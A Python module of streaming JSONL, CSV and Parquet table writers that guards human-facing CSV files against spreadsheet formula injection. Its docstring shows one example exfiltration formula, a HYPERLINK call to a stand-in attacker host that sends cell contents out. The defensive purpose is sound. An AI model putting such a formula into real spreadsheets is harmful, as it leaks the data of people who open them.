"""Streaming table writers for `.jsonl`, `.csv` and `.parquet`, chosen by the file's extension.

Rows are written as they come, so output size never bounds memory. Lists and dicts stay nested in
JSONL and become JSON strings in CSV and Parquet.

A CSV file people open in a spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula (``=HYPERLINK("http://evil.example/?"&A1, "…")`` sends the sheet away); crawled text can be
anything. Tables for people (``for_people``, and ``spreadsheet_safe`` for other writers) get such a cell
with a ``'`` before it, which spreadsheets show as text. Tables the model trains on keep their text as it
is: the quote would become part of the text.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Iterable, Sequence
from pathlib import Path
from types import TracebackType
from typing import Any

FORMATS = (".jsonl", ".csv", ".parquet")


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # and full-width


def spreadsheet_safe(value: Any) -> Any:
    """A text cell a spreadsheet would run as a formula, as text (a ``'`` before it); others unchanged."""
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _flat(value: Any) -> Any:
    if isinstance(value, list | dict | tuple):
        return json.dumps(value, ensure_ascii=False, default=str)
    return value


class TableWriter:
    """Write rows with fixed columns to one file; missing columns are empty, extra ones are an error."""

    def __init__(
        self, path: Path | str, columns: Sequence[str], parquet_batch: int = 2000, *, for_people: bool = False
    ):
        """``for_people``: a CSV file's text cells are ``spreadsheet_safe`` (never for training tables)."""
        self.path = Path(path)
        self.for_people = for_people
        self.columns = list(columns)
        self.kind = self.path.suffix.lower()
        if self.kind not in FORMATS:
            raise ValueError(f"{self.path}: output must end in one of {', '.join(FORMATS)}")
        self.path.parent.mkdir(parents=True, exist_ok=True)
        self._parquet_batch = parquet_batch
        self._pending: list[dict[str, Any]] = []
        self._parquet_writer: Any = None
        self._handle: Any = None
        self._csv: Any = None
        self.count = 0
        if self.kind == ".jsonl":
            self._handle = self.path.open("w", encoding="utf-8")
        elif self.kind == ".csv":
            self._handle = self.path.open("w", encoding="utf-8", newline="")
            self._csv = csv.DictWriter(self._handle, fieldnames=self.columns)
            self._csv.writeheader()

    def write(self, rows: Iterable[dict[str, Any]]) -> None:
        for row in rows:
            extra = set(row) - set(self.columns)
            if extra:
                raise ValueError(f"unexpected columns {sorted(extra)}")
            self.count += 1
            if self.kind == ".jsonl":
                full = {c: row.get(c) for c in self.columns}
                self._handle.write(json.dumps(full, ensure_ascii=False, default=str) + "\n")
            elif self.kind == ".csv":
                cells = {c: _flat(row.get(c)) for c in self.columns}
                if self.for_people:
                    cells = {c: spreadsheet_safe(v) for c, v in cells.items()}
                self._csv.writerow(cells)
            else:
                self._pending.append({c: _flat(row.get(c)) for c in self.columns})
                if len(self._pending) >= self._parquet_batch:
                    self._flush_parquet()

    def _flush_parquet(self) -> None:
        import pyarrow as pa
        import pyarrow.parquet as pq

        if not self._pending and self._parquet_writer is not None:
            return
        table = pa.Table.from_pylist(self._pending, schema=self._schema(pa))
        if self._parquet_writer is None:
            self._parquet_writer = pq.ParquetWriter(self.path, table.schema)
        self._parquet_writer.write_table(table)
        self._pending = []

    def _schema(self, pa: Any) -> Any:
        if self._parquet_writer is not None:
            return self._parquet_writer.schema
        sample = self._pending[:200]
        fields = []
        for column in self.columns:
            values = [r[column] for r in sample if r.get(column) is not None]
            kind = pa.string()
            if values and all(isinstance(v, bool) for v in values):
                kind = pa.bool_()
            elif values and all(isinstance(v, int) and not isinstance(v, bool) for v in values):
                kind = pa.int64()
            elif values and all(isinstance(v, int | float) and not isinstance(v, bool) for v in values):
                kind = pa.float64()
            fields.append(pa.field(column, kind))
        return pa.schema(fields)

    def close(self) -> None:
        if self.kind == ".parquet":
            self._flush_parquet()
            self._parquet_writer.close()
        elif self._handle is not None:
            self._handle.close()

    def __enter__(self) -> TableWriter:
        return self

    def __exit__(
        self, kind: type[BaseException] | None, exc: BaseException | None, tb: TracebackType | None
    ) -> None:
        self.close()
